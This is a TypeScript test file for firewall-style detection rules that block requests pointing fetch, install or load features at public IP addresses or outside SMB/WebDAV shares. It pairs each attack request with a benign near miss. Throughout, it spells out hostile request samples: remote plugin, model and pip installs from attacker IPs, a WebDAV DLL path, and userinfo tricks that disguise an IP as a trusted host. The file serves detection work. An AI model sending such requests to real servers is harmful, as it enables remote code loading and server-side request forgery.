/**
 * Bundled rules of rev 2026-12-10z (issue 18, session 28): the destination a fetch, install or load feature is handed,
 * judged by where it points rather than by the feature. Session 27 counted 58 of the 104 visible-payload misses of
 * held-out 13-19 as such a feature given a destination, which content rules cannot tell from the feature's benign use;
 * what the request can show is the destination itself: a URL value whose host is a literal public IPv4 address (the
 * attacker's server, never how a service names a partner, a CDN or a package registry; private and loopback addresses
 * are 9000528/9000540/9000541's and the model's), and a UNC path to a share on a dotted host (an outside SMB or WebDAV
 * server). Each fires on its attack, sent as such an exploit sends it, and stays quiet on the benign request closest
 * to it: the same value naming a host by its DNS name, a private address, a documentation address, or an intranet share.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const xmlPost = (url: string, body: string): RequestSpec => ({ method: 'POST', url, headers: [...BROWSER, ['Content-Type', 'text/xml']], body });

const CASES: RuleCase[] = [
  [9000598, 'block', 'a plugin debug loader given a remote options file on an address', get('/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http%3A%2F%2F76.141.77.77%2F4vhrk.txt'), get('/wp-admin/admin-post.php?swp_debug=load_options&swp_url=https%3A%2F%2Fcdn.example.com%2Foptions.txt')],
  [9000598, 'block', 'a console option naming an FTP template path on an address', get('/?--templatesPath=ftp%3A%2F%2F147.42.139.35%2Fa4rx%2F&x=1'), get('/?templatesPath=ftp%3A%2F%2Fftp.example.org%2Fpub%2Ftemplates%2F')],
  [9000598, 'block', 'a model install source on an address with a port', get('/api/v2/models/install?source=http://170.88.175.146:8000/bay6dq.pth&inplace=true'), get('/api/v2/models/install?source=http://192.168.1.20:8000/sdxl.safetensors&inplace=true')],
  [9000599, 'block', 'an LLM proxy call whose api_base is an address', postJson('/chat/completions', '{"model":"claude-3-haiku","messages":[{"role":"user","content":"hi"}],"api_base":"http://187.84.62.45:4444"}'), postJson('/chat/completions', '{"model":"claude-3-haiku","messages":[{"role":"user","content":"hi"}],"api_base":"https://api.example.com/v1"}')],
  [9000599, 'block', 'a list of endpoint URLs, one on an address', postJson('/openai/api/urls/update', '{"urls":["http://205.180.54.70/cnbd"]}'), postJson('/openai/api/urls/update', '{"urls":["http://10.0.4.12:11434/v1","https://api.openai.com/v1"]}')],
  [9000599, 'block', 'a WS-Addressing reply address on an address', xmlPost('/axis2/services/Version', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing"><soapenv:Header><wsa:ReplyTo><wsa:Address>http://91.203.7.19:8080/cb</wsa:Address></wsa:ReplyTo></soapenv:Header><soapenv:Body/></soapenv:Envelope>'), xmlPost('/axis2/services/Version', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing"><soapenv:Header><wsa:ReplyTo><wsa:Address>http://www.w3.org/2005/08/addressing/anonymous</wsa:Address></wsa:ReplyTo></soapenv:Header><soapenv:Body/></soapenv:Envelope>')],
  [9000599, 'block', 'a pip requirement fetched from an address', postJson('/customnode/install', '{"id":"x","install_type":"pip","pip":["http://35.31.66.218:8000/nfgq.tar.gz"]}'), postJson('/customnode/install', '{"id":"x","install_type":"pip","pip":["https://files.pythonhosted.org/packages/x/y/pkg-1.0.tar.gz"]}')],
  [9000599, 'block', 'an unencoded form value naming a data file on an address', postForm('/webtools/control/forgotPassword/viewdatafile', 'DATAFILE_LOCATION=http://45.61.188.4:80/hnv0.dat&DATAFILE_IS_URL=true'), postForm('/webtools/control/main/viewdatafile', 'DATAFILE_LOCATION=http://203.0.113.20/sample.dat&DATAFILE_IS_URL=true')],
  [9000572, 'block', 'a percent-encoded form value naming a plugin archive on an address', postForm('/wp-admin/admin-ajax.php', 'action=alone_import_pack_install_plugin&data[plugin_slug]=updater&data[plugin_source]=http%3A%2F%2F32.220.147.186%2Fo.zip'), postForm('/wp-admin/admin-ajax.php', 'action=alone_import_pack_install_plugin&data[plugin_slug]=updater&data[plugin_source]=https%3A%2F%2Fdownloads.wordpress.org%2Fplugin%2Fupdater.zip')],
  [9000571, 'block', 'a binary path that is a share on an outside host', postJson('/misc/validate_binary_path', '{"utility_path":"\\\\\\\\api.jjzugy.com\\\\share\\\\"}'), postJson('/misc/validate_binary_path', '{"utility_path":"\\\\\\\\fileserver\\\\tools\\\\pgsql\\\\bin"}')],
  [9000571, 'block', 'a WebDAV share on an address with a port', postJson('/api/import', '{"path":"\\\\45.61.188.4@SSL@443\\DavWWWRoot\\x.dll"}'), postJson('/api/import', '{"path":"C:\\imports\\x.csv"}')],
  [9000571, 'block', 'a percent-encoded share on an outside host in a form', postForm('/misc/validate_binary_path', 'utility_path=%5C%5Cfiles.example.net%5Cshare%5C'), postForm('/misc/validate_binary_path', 'utility_path=%5C%5Cfileserver%5Ctools%5C')],
];

describe('bundled rules judging the destination a feature is handed (rev 2026-12-10z)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});

/**
 * Rev 2026-12-11i (issue 18, session 29): the same destinations spelled as the first four rules did not read them — a
 * userinfo part before the address (`http://cdn.example.com@45.61.x.x/`, the `@` as `%40` in a form), slashes
 * JSON-escaped as PHP's json_encode writes them (`http:\/\/45.61.x.x\/`), and a UNC path's WebDAV `@SSL@443`
 * percent-encoded. The near misses: the same spelling naming a DNS host, a private address behind the userinfo, an
 * npm-style `name@version` and an email address in the same value.
 */
const SPELLINGS: RuleCase[] = [
  [9000573, 'block', 'a query URL that dresses an address as a CDN name with a userinfo part', get('/api/v1/fetch?url=http%3A%2F%2Fcdn.example.com%4045.61.188.4%2Fx.txt'), get('/api/v1/fetch?url=http%3A%2F%2Fdeploy%40cdn.example.com%2Fx.txt')],
  [9000573, 'block', 'a model source with user and password before an address', get('/api/v2/models/install?source=http://hf:token@170.88.175.146:8000/m.pth'), get('/api/v2/models/install?source=http://hf:token@192.168.1.20:8000/m.pth')],
  [9000574, 'block', 'a JSON api_base that names a known host as userinfo', postJson('/chat/completions', '{"model":"x","api_base":"http://api.openai.com@187.84.62.45:4444/v1"}'), postJson('/chat/completions', '{"model":"x","api_base":"https://user@api.example.com/v1","contact":"ops@203.0.113.5.example.com"}')],
  [9000574, 'block', 'a pip requirement behind a userinfo part', postJson('/customnode/install', '{"pip":["https://pypi.org@35.31.66.218/x.tar.gz"]}'), postJson('/customnode/install', '{"pip":["lodash@4.17.21","requests==2.31.0"],"note":"see https://pypi.org/project/requests/"}')],
  [9000575, 'block', 'a percent-encoded form value whose userinfo ends in %40 before an address', postForm('/wp-admin/admin-ajax.php', 'action=alone_import_pack_install_plugin&data[plugin_source]=http%3A%2F%2Fdownloads.wordpress.org%4032.220.147.186%2Fo.zip'), postForm('/wp-admin/admin-ajax.php', 'action=alone_import_pack_install_plugin&data[plugin_source]=https%3A%2F%2Fdeploy%40downloads.wordpress.org%2Fplugin%2Fupdater.zip&email=jo%40example.com')],
  [9000576, 'block', 'a JSON URL with escaped slashes on an address', postJson('/index.php?route=extension/installer', '{"url":"http:\\/\\/45.61.188.4\\/x.zip"}'), postJson('/index.php?route=extension/installer', '{"url":"https:\\/\\/www.example.org\\/ext\\/x.zip","mirror":"http:\\/\\/10.0.0.7\\/x.zip"}')],
  [9000571, 'block', 'a percent-encoded WebDAV share with %40SSL%40443', postForm('/api/import', 'path=%5C%5Cfiles.example.net%40SSL%40443%5CDavWWWRoot%5Cx.dll'), postForm('/api/import', 'path=%5C%5Cfileserver%40SSL%40443%5CDavWWWRoot%5Cx.dll')],
];

describe('bundled destination rules read the userinfo, JSON-escaped and %40 spellings (rev 2026-12-11i)', () => {
  testRuleCases(SPELLINGS, hits);
  testPrefilterEntries(SPELLINGS.map(([sid]) => sid), rules);
});
